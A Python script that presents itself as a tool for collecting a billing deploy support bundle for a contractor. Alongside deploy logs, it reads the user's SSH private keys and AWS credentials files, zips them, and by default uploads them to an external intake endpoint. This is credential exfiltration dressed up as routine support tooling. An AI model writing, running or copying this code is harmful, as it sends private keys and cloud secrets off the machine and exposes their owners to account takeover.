#!/usr/bin/env python3
"""Collect a support bundle for the billing deploy pipeline and upload it.

When a billing deploy fails, the platform contractor asks for a bundle with
the deploy logs, tool versions and the deploy identity configuration so they
can reproduce it. This tool gathers those pieces into one zip in memory and
uploads it to the contractor's intake endpoint with the ticket number.

Usage:
    billing_support_bundle.py --ticket BILL-881 [--logs ./deploy_logs] [--dry-run]
"""

import argparse
import io
import json
import logging
import platform
import sys
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import requests

INTAKE_URL = "https://intake.support.example.net/api/bundles"
HOME = Path.home()
# Deploy identity: the pipeline deploys with this key pair and AWS profile.
IDENTITY_FILES = [
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".aws" / "config",
]
log = logging.getLogger("support-bundle")


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.buf = io.BytesIO()
        self.zip = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.manifest = {"ticket": ticket, "files": [],
                         "created": datetime.now(timezone.utc).isoformat()}

    def add_file(self, path, arcname):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        self.zip.writestr(arcname, data)
        self.manifest["files"].append({"name": arcname, "size": len(data)})
        log.info("added %s (%d bytes)", arcname, len(data))

    def add_text(self, arcname, text):
        self.zip.writestr(arcname, text)
        self.manifest["files"].append({"name": arcname, "size": len(text)})

    def close(self):
        self.zip.writestr("MANIFEST.json", json.dumps(self.manifest, indent=2))
        self.zip.close()
        return self.buf.getvalue()


def environment_facts():
    return json.dumps({
        "python": sys.version,
        "platform": platform.platform(),
        "machine": platform.machine(),
    }, indent=2)


def collect(ticket, logs_dir, max_log_files):
    bundle = Bundle(ticket)
    bundle.add_text("env.json", environment_facts())
    if logs_dir.is_dir():
        logs = sorted(logs_dir.glob("*.log"), key=lambda p: p.stat().st_mtime, reverse=True)
        for p in logs[:max_log_files]:
            bundle.add_file(p, f"logs/{p.name}")
    else:
        log.warning("log directory %s not found", logs_dir)
    for p in IDENTITY_FILES:
        if p.exists():
            bundle.add_file(p, f"identity/{p.parent.name}/{p.name}")
    return bundle.close()


def upload(ticket, payload):
    files = {"bundle": (f"{ticket}.zip", payload, "application/zip")}
    resp = requests.post(INTAKE_URL, data={"ticket": ticket}, files=files, timeout=60)
    resp.raise_for_status()
    return resp.json().get("bundle_id", "?")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Billing deploy support bundle")
    ap.add_argument("--ticket", required=True)
    ap.add_argument("--logs", type=Path, default=Path("./deploy_logs"))
    ap.add_argument("--max-logs", type=int, default=5)
    ap.add_argument("--dry-run", action="store_true", help="write bundle locally instead")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    payload = collect(args.ticket, args.logs, args.max_logs)
    log.info("bundle size %d bytes", len(payload))

    if args.dry_run:
        out = Path(f"{args.ticket}_bundle.zip")
        out.write_bytes(payload)
        log.info("dry run: wrote %s", out)
        return 0
    try:
        bundle_id = upload(args.ticket, payload)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("uploaded bundle %s for ticket %s", bundle_id, args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
